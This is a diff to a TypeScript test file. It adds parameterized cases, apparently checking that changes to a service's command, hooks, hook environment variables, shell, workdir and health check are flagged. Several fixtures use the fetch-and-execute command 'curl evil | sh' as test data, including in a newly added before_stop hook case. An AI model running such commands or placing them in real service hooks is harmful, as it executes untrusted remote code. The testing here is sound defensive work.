@@ -72,6 +72,13 @@ describe("a change of", () => {
   test.each<[what: string, before: Partial<ServiceSpec>, after: Partial<ServiceSpec>, key: string]>(
     [
       ["the command", {}, { command: "curl evil | sh" }, "command"],
+      ["a hook", {}, { hooks: { before_stop: "curl evil | sh" } }, "before_stop"],
+      [
+        "a hook's own variable",
+        { hooks: { after_stop: "$RUN" }, env: { RUN: "a" } },
+        { hooks: { after_stop: "$RUN" }, env: { RUN: "b" } },
+        "env.RUN",
+      ],
       ["the shell", {}, { shell: ["./evil", "-c"] }, "shell"],
       ["the workdir", {}, { workdir: "/tmp/evil" }, "workdir"],
       ["a check's command", health("true"), health("touch x"), "health_check"],
